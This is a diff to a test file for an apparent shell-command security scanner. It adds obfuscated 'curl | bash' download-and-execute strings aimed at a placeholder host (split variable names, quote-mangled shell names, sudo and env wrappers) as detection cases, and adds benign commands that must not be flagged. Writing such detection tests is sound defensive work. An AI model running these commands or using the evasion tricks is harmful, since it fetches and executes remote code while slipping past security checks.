@@ -303,6 +303,12 @@ RESPELLED = [
     "x=1; {wget,-qO-,https://c.invalid/a} | sh",
     "/usr/bin/c?rl -s https://c.invalid/a | /bin/?h",
     "/usr/bin/cu[r]l -s https://c.invalid/a | /b*/bash",
+    *(f"c=cu; r=rl; $c$r -s https://c.invalid/a | {shell}" for shell in ('ba""sh', "b''ash", "ba\\sh", "b\"a\"'s'h")),
+    *(f"c=cu; r=rl; $c$r -s https://c.invalid/a | {shell}" for shell in ("ba\"\"''sh", 'ba$""sh', "/bin/s''h")),
+    *(
+        f"c=cu; r=rl; $c$r -s https://c.invalid/a | {wrapped}bash"
+        for wrapped in ("sudo ", "sudo -u root -- ", "env -- ")
+    ),
 ]
 LED = [
     "shopt -s expand_aliases\nalias g='curl -s'\ng https://c.invalid/a | sh",
@@ -466,6 +472,8 @@ def test_ordinary_shell_commands_are_accepted():
         "for f in src/*; do cp $f build/; done; git push",
         "ls /bin/?h\nrm -f /tmp/a?b\n[ -f a ] && echo {a,b} | sort",
         "cmd='make test'\n$cmd | tee a.log\neval \"$cmd\"",
+        "\"$PREFIX/bin\"/python3 a.py; 'venv'/bin/node a.js; .\\venv\\Scripts\\python a.py | sudo -u root tee a.log",
+        "curl -s https://c.invalid/a | sudo -u bash -- jq .a; echo 'a | b''c' | ba-sh",
     ]
     found = {text: seen(text, "scripts/a.sh") & {"SH104", "SH105", "SH602", "SH603"} for text in texts}
     assert {text: rules for text, rules in found.items() if rules} == {}
